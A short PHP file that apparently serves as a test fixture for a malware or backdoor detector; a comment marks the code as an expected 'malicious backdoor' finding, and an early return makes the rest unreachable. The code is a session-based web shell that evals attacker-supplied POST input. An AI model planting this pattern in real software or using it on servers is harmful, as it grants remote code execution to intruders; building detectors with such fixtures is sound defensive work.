<?php return; // want: malicious backdoor
session_start();
if (isset($_SESSION['p'])) { eval($_SESSION['p']); } else { $_SESSION['p'] = $_POST['p']; }
